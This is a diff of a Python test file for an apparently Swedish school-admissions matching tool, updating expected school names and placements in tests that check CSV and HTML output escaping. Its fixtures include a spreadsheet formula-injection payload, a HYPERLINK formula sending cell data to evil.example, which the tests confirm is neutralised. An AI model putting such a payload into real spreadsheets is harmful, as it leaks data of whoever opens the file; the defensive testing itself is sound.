@@ -89,7 +89,7 @@ def test_match_escapes_every_hostile_cell_in_the_csv_files(hostile_match):
     _, out = hostile_match
     raw = (out / "programmes.csv").read_text(encoding="utf-8")
     assert ("'@MAL-LAT-NA-NAT,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
-            "Båstad,EK,'+SUM(1;1),") in raw  # the sample's first offer: Akademi Båstad Gymnasium, EK
+            "Lund,EK,'+SUM(1;1),") in raw  # the region's first offer: Drottning Blankas Gymnasieskola Lund, EK
     placements = (out / "placements.csv").read_text(encoding="utf-8").splitlines()
     assert placements[1].startswith("'-0042,")
     assert placements[3].startswith("'\tS000003,")
@@ -148,7 +148,7 @@ def test_html_report_escapes_school_names(hostile_match):
 def test_explain_reads_escaped_ids_back_exactly(hostile_match):
     _, out = hostile_match
     text = explain_text(out, HOSTILE_STUDENT)
-    assert text.startswith(f"Student {HOSTILE_STUDENT} is admitted to 53896162-TE (TE at Polhemskolan in Lund), their 1st choice.")
+    assert text.startswith(f"Student {HOSTILE_STUDENT} is admitted to 56639389-EK (EK at Katedralskolan in Lund), their 2nd choice.")
     assert explain_text(out, TAB_STUDENT).startswith(f"Student {TAB_STUDENT} ")
 
 
